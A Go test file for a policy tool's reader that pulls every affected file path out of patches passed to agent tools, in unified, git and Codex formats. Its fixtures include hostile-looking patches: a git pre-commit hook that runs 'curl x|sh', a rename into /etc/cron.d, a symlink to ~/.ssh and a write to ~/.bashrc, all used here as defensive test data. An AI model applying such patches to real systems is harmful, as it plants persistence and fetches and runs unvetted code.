package argread_test

import (
	"testing"

	"github.com/open-policy-agent/opa/v1/ast"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/mcp-policy/mcp-policy/internal/argread"
)

// Every file a patch changes is a path of the call, in both grammars the
// reader knows, whatever the argument's name in a patch tool; a patch
// that makes a link, or does not parse, is unknown ("?").
func TestPatchesNameEveryFile(t *testing.T) {
	for _, c := range []struct {
		name, tool, arg, patch string
		want                   []string
	}{
		{"a new hook, unified", "apply_patch", "patch", "--- /dev/null\n+++ b/.git/hooks/pre-commit\n@@ -0,0 +1 @@\n+curl x|sh\n",
			[]string{"/srv/app/b/.git/hooks/pre-commit", "/srv/app/.git/hooks/pre-commit"}},
		{"git format", "apply_patch", "patch", "diff --git a/src/x.go b/src/x.go\n--- a/src/x.go\n+++ b/src/x.go\n@@ -1 +1 @@\n-a\n+b\n",
			[]string{"/srv/app/src/x.go", "/srv/app/x.go"}},
		{"a rename out of the project", "apply_patch", "diff", "diff --git a/x b/y\nsimilarity index 100%\nrename from x\nrename to ../../etc/cron.d/x\n",
			[]string{"/srv/app/x", "/etc/cron.d/x", "/srv/etc/cron.d/x"}},
		{"a link", "apply_patch", "patch", "diff --git a/l b/l\nnew file mode 120000\n--- /dev/null\n+++ b/l\n@@ -0,0 +1 @@\n+/home/u/.ssh\n",
			[]string{"/srv/app/l", "?"}},
		{"codex: add, update, delete, move", "apply_patch", "input",
			"*** Begin Patch\n*** Add File: /home/u/.bashrc\n+x\n*** Update File: src/a.py\n*** Move to: src/b.py\n@@\n-a\n+b\n*** Delete File: old.txt\n*** End Patch",
			[]string{"/home/u/.bashrc", "/srv/app/src/a.py", "/srv/app/src/b.py", "/srv/app/old.txt"}},
		{"codex: an unknown header", "apply_patch", "input", "*** Begin Patch\n*** Symlink File: x\n*** End Patch", []string{"?", "?"}},
		{"a diff that does not parse", "run_diff", "diff", "--- a/x\n+++ b/x\n@@ garbage @@\n", []string{"?"}},
		{"a patch under its own name, in any tool", "make_change", "patch", "--- a/README.md\n+++ b/README.md\n@@ -1 +1 @@\n-a\n+b\n",
			[]string{"/srv/app/b/README.md", "/srv/app/README.md"}},
	} {
		t.Run(c.name, func(t *testing.T) {
			r, err := argread.NewReader(nil)
			require.NoError(t, err)
			got, err := r.Read(argread.Call{Tool: c.tool, Root: "/srv/app",
				Arguments: [][2]*ast.Term{{ast.StringTerm(c.arg), ast.StringTerm(c.patch)}}})
			require.NoError(t, err)
			var paths []string
			for _, p := range got.Paths {
				paths = append(paths, orUnknown(p.Resolved))
			}
			assert.Equal(t, c.want, paths)
		})
	}
}

// FuzzPatch: the reader never fails on a patch, in either grammar, and a
// patch that names files always names at least one path.
func FuzzPatch(f *testing.F) {
	f.Add("--- /dev/null\n+++ b/x\n@@ -0,0 +1 @@\n+y\n")
	f.Add("diff --git a/x b/y\nrename from x\nrename to y\n")
	f.Add("*** Begin Patch\n*** Add File: x\n+y\n*** End Patch")
	r, err := argread.NewReader(nil)
	require.NoError(f, err)
	f.Fuzz(func(t *testing.T, patch string) {
		got, err := r.Read(argread.Call{Tool: "apply_patch", Root: "/srv/app",
			Arguments: [][2]*ast.Term{{ast.StringTerm("input"), ast.StringTerm(patch)}}})
		require.NoError(t, err)
		if len(patch) > 0 && (patch[0] == '+' || patch[0] == '*') && len(got.Paths) == 0 && len(patch) > 4 && patch[:4] == "*** " {
			t.Fatalf("a Codex patch named nothing, not even an unknown: %q", patch)
		}
	})
}
